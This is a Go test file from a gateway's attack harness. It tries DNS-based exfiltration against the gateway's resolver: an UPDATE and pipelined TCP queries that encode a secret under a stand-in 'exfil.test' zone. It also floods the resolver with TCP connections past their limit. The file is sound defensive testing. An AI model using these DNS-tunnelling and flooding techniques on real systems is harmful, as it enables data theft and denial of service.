package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/nsgate/nsgate/lab/internet"
)

// Attempts that speak DNS at the wire level to the gateway's resolver:
// messages a stub resolver never sends, and several queries pipelined on
// one TCP connection.

// rawQuery builds one query for name with opcode (0 is QUERY).
func rawQuery(id uint16, opcode dnsmessage.OpCode, name string, qtype dnsmessage.Type) ([]byte, error) {
	qn, err := dnsmessage.NewName(name + ".")
	if err != nil {
		return nil, err
	}
	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: id, OpCode: opcode, RecursionDesired: opcode == 0})
	if err := b.StartQuestions(); err != nil {
		return nil, err
	}
	if err := b.Question(dnsmessage.Question{Name: qn, Type: qtype, Class: dnsmessage.ClassINET}); err != nil {
		return nil, err
	}
	return b.Finish()
}

// dnsRaw sends msgs to server over transport (TCP: every frame in one
// write, on one connection) and returns one reply header and answer
// count per message, in order.
func (a *attacker) dnsRaw(ctx context.Context, server, transport string, msgs ...[]byte) ([]dnsmessage.Header, []int, error) {
	c, err := (&net.Dialer{Timeout: a.cfg.Timeout}).DialContext(ctx, transport, server)
	if err != nil {
		return nil, nil, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(a.cfg.Timeout))
	var replies [][]byte
	if transport == "tcp" {
		var out []byte
		for _, m := range msgs {
			out = append(binary.BigEndian.AppendUint16(out, uint16(len(m))), m...)
		}
		if _, err := c.Write(out); err != nil {
			return nil, nil, err
		}
		for range msgs {
			var lb [2]byte
			if _, err := io.ReadFull(c, lb[:]); err != nil {
				return nil, nil, err
			}
			r := make([]byte, binary.BigEndian.Uint16(lb[:]))
			if _, err := io.ReadFull(c, r); err != nil {
				return nil, nil, err
			}
			replies = append(replies, r)
		}
	} else {
		for _, m := range msgs {
			if _, err := c.Write(m); err != nil {
				return nil, nil, err
			}
			buf := make([]byte, 65535)
			n, err := c.Read(buf)
			if err != nil {
				return nil, nil, err
			}
			replies = append(replies, buf[:n])
		}
	}
	var hs []dnsmessage.Header
	var ans []int
	for i, r := range replies {
		var m dnsmessage.Message
		if err := m.Unpack(r); err != nil {
			return nil, nil, fmt.Errorf("reply %d: %w", i, err)
		}
		if m.ID != binary.BigEndian.Uint16(msgs[i]) {
			return nil, nil, fmt.Errorf("reply %d has id %#x, want %#x", i, m.ID, binary.BigEndian.Uint16(msgs[i]))
		}
		hs = append(hs, m.Header)
		ans = append(ans, len(m.Answers))
	}
	return hs, ans, nil
}

// dnsUpdateExfil sends a DNS UPDATE (opcode 5) for a zone carrying the
// run's secret below the exfil zone: a message no stub resolver sends,
// which a forwarding resolver might pass on. nsgate answers NOTIMP and
// records it under builtin:dns-opcode with the zone's name; any NOERROR
// is the attack getting through.
func dnsUpdateExfil(id, transport string) Attempt {
	return Attempt{
		ID: id, Category: "dns", Layer: LayerDNS, Rule: "builtin:dns-opcode",
		Description: "DNS UPDATE (opcode 5) of the zone <secret>.exfil.test over " + transport + ": a message nsgate must refuse, record and never forward",
		Expect:      Blocked, Audit: AuditDeny, Aims: []string{internet.TargetExfil},
		Keys: []string{"dns:*." + internet.ExfilZone},
		run: func(ctx context.Context, a *attacker) result {
			name := a.secret + "-" + id + "." + internet.ExfilZone
			msg, err := rawQuery(0x5a5a, 5, name, dnsmessage.TypeSOA)
			if err != nil {
				return erroredf("build update: %v", err)
			}
			hs, ans, err := a.dnsRaw(ctx, a.cfg.DNSServer, transport, msg)
			if err != nil {
				if isRefusal(err) {
					return blockedf("UPDATE %s: %v", name, err)
				}
				return erroredf("UPDATE %s: %v", name, err)
			}
			if hs[0].RCode == dnsmessage.RCodeSuccess {
				return allowedf("UPDATE %s answered NOERROR with %d records", name, ans[0])
			}
			return blockedf("UPDATE %s: rcode %v", name, hs[0].RCode)
		},
	}
}

// dnsPipelinedExfil pipelines, in one TCP write, a query for the approved
// app.test and one carrying the run's secret below the exfil zone: the
// first must be answered and the second refused, on the same connection.
func dnsPipelinedExfil() Attempt {
	const id = "dns-tcp-pipelined-exfil"
	return Attempt{
		ID: id, Category: "dns", Layer: LayerDNS,
		Description: "A app.test then A <secret>.exfil.test pipelined in one TCP write: the second is refused after the first is answered",
		Expect:      Blocked, Audit: AuditDeny, Aims: []string{internet.TargetExfil},
		Keys: []string{"dns:*." + internet.ExfilZone},
		run: func(ctx context.Context, a *attacker) result {
			name := a.secret + "-" + id + "." + internet.ExfilZone
			q1, err := rawQuery(0x1111, 0, internet.AppName, dnsmessage.TypeA)
			if err != nil {
				return erroredf("build query: %v", err)
			}
			q2, err := rawQuery(0x2222, 0, name, dnsmessage.TypeA)
			if err != nil {
				return erroredf("build query: %v", err)
			}
			hs, ans, err := a.dnsRaw(ctx, a.cfg.DNSServer, "tcp", q1, q2)
			if err != nil {
				if isRefusal(err) {
					return blockedf("pipelined queries: %v", err)
				}
				return erroredf("pipelined queries: %v", err)
			}
			if ans[1] > 0 {
				return allowedf("A %s answered with %d records after A %s", name, ans[1], internet.AppName)
			}
			if hs[0].RCode != dnsmessage.RCodeSuccess || ans[0] == 0 {
				// The approved name must resolve, or the test says
				// nothing about the pipeline.
				return erroredf("A %s (approved) got rcode %v with %d answers", internet.AppName, hs[0].RCode, ans[0])
			}
			return blockedf("A %s answered, then A %s: rcode %v", internet.AppName, name, hs[1].RCode)
		},
	}
}

// dnsTCPFlood opens more DNS-over-TCP connections to the gateway's
// resolver than its bound (64) and holds them, each asking for app.test:
// the connections past the bound must be closed unanswered and recorded
// (builtin:dns-limit). Every connection answered would be the bound
// failing: a worker could then make nsgate hold any number of them.
func dnsTCPFlood() Attempt {
	const conns = 80
	return Attempt{
		ID: "dns-tcp-conn-flood", Category: "dns", Layer: LayerDNS, Rule: "builtin:dns-limit",
		Description: fmt.Sprintf("%d DNS-over-TCP connections held open at once (the bound is 64)", conns),
		Expect:      Blocked, Audit: AuditDeny,
		Keys: []string{internet.DNSV4 + ":53"},
		run: func(ctx context.Context, a *attacker) result {
			msg, err := rawQuery(0x3333, 0, internet.AppName, dnsmessage.TypeA)
			if err != nil {
				return erroredf("build query: %v", err)
			}
			var held []net.Conn
			defer func() {
				for _, c := range held {
					c.Close()
				}
			}()
			served, refused := 0, 0
			for range conns {
				c, err := (&net.Dialer{Timeout: a.cfg.Timeout}).DialContext(ctx, "tcp", a.cfg.DNSServer)
				if err != nil {
					if isRefusal(err) {
						refused++
						continue
					}
					return erroredf("connect: %v", err)
				}
				held = append(held, c)
				c.SetDeadline(time.Now().Add(a.cfg.Timeout))
				var lb [2]byte
				_, err = c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(msg))), msg...))
				if err == nil {
					_, err = io.ReadFull(c, lb[:])
				}
				if err == nil {
					_, err = io.ReadFull(c, make([]byte, binary.BigEndian.Uint16(lb[:])))
				}
				switch {
				case err == nil:
					served++
				case isRefusal(err):
					refused++
				default:
					return erroredf("connection %d: %v", len(held), err)
				}
			}
			if served == conns {
				return allowedf("all %d connections held open and answered", conns)
			}
			if served == 0 {
				return erroredf("no connection answered: the resolver is not reachable")
			}
			return blockedf("%d connections answered and held, %d refused past the bound", served, refused)
		},
	}
}
